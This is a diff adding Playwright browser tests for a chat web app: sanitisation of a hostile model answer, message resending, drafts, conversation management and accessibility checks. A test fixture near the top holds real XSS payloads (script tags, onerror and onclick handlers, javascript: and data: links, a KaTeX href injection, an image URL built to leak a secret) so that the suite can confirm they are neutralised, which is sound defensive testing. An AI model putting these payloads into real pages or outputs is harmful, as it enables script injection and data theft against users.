@@ -1,0 +1,186 @@
+"""The chat page in a real browser: hostile answers, what was not sent, and what everybody must be able to use."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser, Page, Route, expect
+
+from tests.environment import ROOT
+from tests.servers.behaviour import says
+from tests.servers.openai_server import ModelServer
+from tests.servers.service import Service
+
+PASSWORD = "correct horse battery"
+AXE = ROOT / "static" / "node_modules" / "axe-core" / "axe.min.js"
+SIZES = {"desktop": (1440, 900), "tablet": (820, 1180), "phone": (390, 844)}
+HOSTILE = """# Hello
+<script>window.wasHere = 1</script> <img src=x onerror="window.wasHere = 2">
+
+![a cat](https://example.com/cat.png?stolen=secret) ![x](javascript:alert(1)) ![y](/accounts/logout/)
+
+[script](javascript:window.wasHere=3) [data](data:text/html,<script>alert(1)</script>) [good](https://example.com/)
+
+<style>body{display:none}</style><iframe src="https://example.com"></iframe>
+
+$\\href{javascript:window.wasHere=4}{x}$ and $\\htmlStyle{color:red}{y}$ and $a^2$
+
+```html
+<img src=x onerror="window.wasHere = 5">
+```
+
+| a | b |
+|---|--:|
+| <b onclick="window.wasHere = 6">1</b> | 2 |
+
+The end.
+"""
+
+
+@pytest.fixture(scope="module")
+def model() -> Iterator[ModelServer]:
+    with ModelServer(default=says(HOSTILE, rate=400.0)) as server:
+        yield server
+
+
+@pytest.fixture
+def service(start_service: Callable[..., Service], model: ModelServer) -> Service:
+    service = start_service(OPENAI_BASE_URL=model.base_url, LLM_MODEL="test-model", LLM_CONTEXT_SIZE="16000")
+    service.create_user("alice@example.com", PASSWORD, admin=True)
+    return service
+
+
+@pytest.fixture
+def page(browser: Browser, service: Service) -> Iterator[Page]:
+    context = browser.new_context(base_url=service.url)
+    page = context.new_page()
+    errors: list[str] = []
+    page.on("pageerror", lambda error: errors.append(str(error)))
+    sign_in(page)
+    yield page
+    context.close()
+    assert not errors, errors
+
+
+def sign_in(page: Page) -> None:
+    page.goto("/")
+    page.locator("[name=login]").fill("alice@example.com")
+    page.locator("[name=password]").fill(PASSWORD)
+    page.locator("[name=password]").press("Enter")
+    expect(page.locator("#composer")).to_be_visible()
+
+
+def ask(page: Page, question: str) -> Any:
+    page.locator("#composer").fill(question)
+    page.locator("#composer").press("Enter")
+    answer = page.locator("article.is-assistant").last
+    expect(answer).to_have_attribute("data-status", "complete")
+    return answer
+
+
+def test_a_hostile_answer_runs_nothing_and_calls_nobody(page: Page, service: Service) -> None:
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    answer = ask(page, "Be hostile")
+    expect(answer).to_contain_text("The end.")
+    expect(answer.locator(".katex").last).to_be_visible()
+    assert page.evaluate("window.wasHere") is None
+    assert answer.locator("script, style, iframe, img, [onerror], [onclick]").count() == 0
+    own = (service.url, service.url.replace("http", "ws"), "blob:", "data:")
+    assert [url for url in asked if not url.startswith(own)] == []
+    addresses = answer.locator("a").evaluate_all(
+        "links => links.map(a => [a.getAttribute('href'), a.rel, a.target])"
+    )
+    assert [address for address in addresses if address[0]] == [
+        ["https://example.com/", "noopener noreferrer nofollow", "_blank"]
+    ]
+    expect(answer.locator(".remote-image").first).to_contain_text("example.com")
+    expect(answer.locator(".code code")).to_contain_text('onerror="window.wasHere = 5"')
+
+
+def test_what_was_not_acknowledged_returns_to_the_composer_and_is_sent_once(page: Page) -> None:
+    answer = ask(page, "First")
+    expect(answer).to_contain_text("The end.")
+
+    def lose_answer(route: Route) -> None:
+        if route.request.method == "POST":
+            route.fetch()  # the server has it, we never hear so
+            route.abort()
+        else:
+            route.continue_()
+
+    page.route("**/messages", lose_answer)
+    page.locator("#composer").fill("Do not lose this")
+    page.locator("#composer").press("Enter")
+    expect(page.get_by_role("alert").filter(has_text="Not sent")).to_be_visible()
+    expect(page.locator("#composer")).to_have_value("Do not lose this")
+    page.unroute("**/messages")
+    expect(page.get_by_role("button", name="Send")).to_be_enabled()
+    page.locator("#composer").press("Enter")
+    expect(page.locator("#composer")).to_have_value("")
+    expect(page.locator("article.is-user", has_text="Do not lose this")).to_have_count(1)
+
+
+def test_a_draft_survives_a_reload_and_stays_with_its_chat(page: Page) -> None:
+    ask(page, "A chat of its own")
+    page.locator("#composer").fill("half a thought")
+    page.reload()
+    expect(page.locator("#composer")).to_have_value("half a thought")
+    page.get_by_role("link", name="New chat").click()
+    expect(page.locator("#composer")).to_have_value("")
+
+
+def test_a_conversation_can_be_renamed_pinned_and_deleted(page: Page) -> None:
+    ask(page, "Name me")
+    row = page.locator(".row.is-open")
+
+    def choose(action: str) -> None:
+        row.hover()
+        row.get_by_role("button", name=re.compile("Options")).click()
+        page.get_by_role("menuitem", name=action, exact=True).click()
+
+    choose("Rename")
+    page.keyboard.type("Renamed")
+    page.keyboard.press("Enter")
+    expect(row).to_contain_text("Renamed")
+    choose("Pin")
+    expect(page.locator(".group", has=page.get_by_role("heading", name="Pinned"))).to_contain_text("Renamed")
+    choose("Delete")
+    page.get_by_role("dialog").get_by_role("button", name="Delete").click()
+    expect(page.locator(".row")).to_have_count(0)
+    expect(page).to_have_url(re.compile(r"/$"))
+
+
+def test_the_page_works_at_every_size_in_light_and_dark_without_a_barrier(
+    browser: Browser, service: Service, page: Page
+) -> None:
+    ask(page, "Something to look at")
+    conversation, cookies = page.url, page.context.cookies()
+    for scheme in ("light", "dark"):
+        for name, (width, height) in SIZES.items():
+            context = browser.new_context(
+                base_url=service.url,
+                viewport={"width": width, "height": height},
+                color_scheme=scheme,
+                has_touch=name != "desktop",
+            )
+            context.add_cookies(cookies)  # type: ignore[arg-type]  # what it gave is what it takes
+            tab = context.new_page()
+            for address in ("/", conversation, "/memory"):
+                tab.goto(address)
+                expect(tab.locator(".composer, .day-title").first).to_be_visible()
+                tab.wait_for_load_state("networkidle")
+                assert barriers(tab) == [], f"{address} {name} {scheme}"
+                assert tab.evaluate("document.documentElement.scrollWidth <= innerWidth"), f"{address} {name}"
+            context.close()
+
+
+def barriers(page: Page) -> list[Any]:
+    page.evaluate(AXE.read_text() + ";0")
+    found: list[Any] = page.evaluate(
+        "async () => (await axe.run(document)).violations.map(v => [v.id, v.nodes.map(n => n.target.join(' '))])"
+    )
+    return found
